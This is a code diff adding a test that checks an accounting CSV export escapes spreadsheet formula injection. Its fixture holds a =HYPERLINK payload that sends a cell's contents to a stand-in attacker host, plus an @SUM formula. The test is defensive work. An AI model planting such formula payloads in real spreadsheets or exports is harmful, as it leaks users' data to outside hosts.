@@ -195,6 +195,37 @@ describe('franchisee order calls', () => {
     expect(await rowsOf(2081)).toEqual(['GB-2081;CC-2081;1;39.90;8.10;39.90']);
   });
 
+  it('writes texts that begin like a formula so that a spreadsheet shows them, never runs them', async () => {
+    await t.app.get(DataSource).getRepository(Booklet).update(booklets.preOrder.id, {
+      abacusProductId: '=HYPERLINK("https://evil.example/?"&A1,"Rabatt")',
+      costCentre1Income: '+41-62',
+    });
+    const ordered = (
+      await request(t.server)
+        .post('/api/v1/order')
+        .send(privateOrder([{ bookletId: booklets.preOrder.id, quantity: 1 }]))
+        .expect(201)
+    ).body as Order;
+    await as(franchisee)
+      .put(`/api/v1/order/${ordered.id}`, {
+        postage: 9,
+        postageProductNo: '@SUM(1+1)',
+        postageLabel: 'Einschreiben',
+      })
+      .expect(200);
+    const rows = (
+      await as(franchisee).get('/api/v1/accounting/abacus-export?year=2081').expect(200)
+    ).text
+      .trim()
+      .split('\r\n')
+      .filter((row) => row.includes(`;${ordered.displayOrderId};`))
+      .map((row) => row.split(';').slice(1).join(';'));
+    expect(rows).toEqual([
+      `${ordered.displayOrderId};"'=HYPERLINK(""https://evil.example/?""&A1,""Rabatt"")";'+41-62;1;39.90;8.10;39.90`,
+      `${ordered.displayOrderId};'@SUM(1+1);'+41-62;1;9.00;8.10;9.00`,
+    ]);
+  });
+
   it('refuses a year that is no number', async () => {
     const response = await as(franchisee)
       .get('/api/v1/accounting/abacus-export?year=abc')
